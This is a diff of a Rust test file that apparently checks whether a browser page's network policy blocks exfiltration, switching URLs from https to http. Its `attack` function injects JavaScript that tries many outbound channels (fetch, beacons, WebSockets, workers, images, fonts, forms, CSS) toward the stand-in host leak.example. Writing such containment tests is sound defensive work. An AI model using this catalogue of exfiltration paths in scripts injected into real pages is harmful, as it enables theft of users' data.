@@ -58,14 +58,16 @@ fn open_all(page: &Page, address: &str) {
     }
 }
 
-/// What a script would do that had got into the page after all.
+/// What a script would do that had got into the page after all. Over http, where the catcher sees the
+/// request itself: for a frame or a form Chromium opens a connection before it asks the policy, and
+/// with https no more than that could be seen.
 fn attack(page: &Page) {
     page.run_async(
-        "const to = way => 'https://leak.example/' + way; \
+        "const to = way => 'http://leak.example/' + way; \
          const element = (name, set) => document.body.append(Object.assign(document.createElement(name), set)); \
          const ways = [ \
            () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => 0), \
-           () => navigator.sendBeacon(to('beacon'), 'a'), () => new WebSocket('wss://leak.example/'), \
+           () => navigator.sendBeacon(to('beacon'), 'a'), () => new WebSocket('ws://leak.example/'), \
            () => new EventSource(to('events')), () => { new Image().src = to('image'); }, \
            () => { const asked = new XMLHttpRequest(); asked.open('GET', to('xhr')); asked.send(); }, \
            () => import(to('module')).catch(() => 0), () => new Worker(to('worker')), \
@@ -75,7 +77,7 @@ fn attack(page: &Page) {
            () => element('link', { rel: 'preload', as: 'image', href: to('preload') }), \
            () => element('link', { rel: 'manifest', href: to('manifest') }), \
            () => element('video', { src: to('video') }), \
-           () => element('svg', { innerHTML: '<image href=https://leak.example/svg />' }), \
+           () => element('svg', { innerHTML: '<image href=http://leak.example/svg />' }), \
            () => document.body.style.setProperty('background', 'url(' + to('style') + ')'), \
            () => new FontFace('a', 'url(' + to('font') + ')').load().catch(() => 0), \
            () => { const form = document.createElement('form'); form.action = to('form'); \
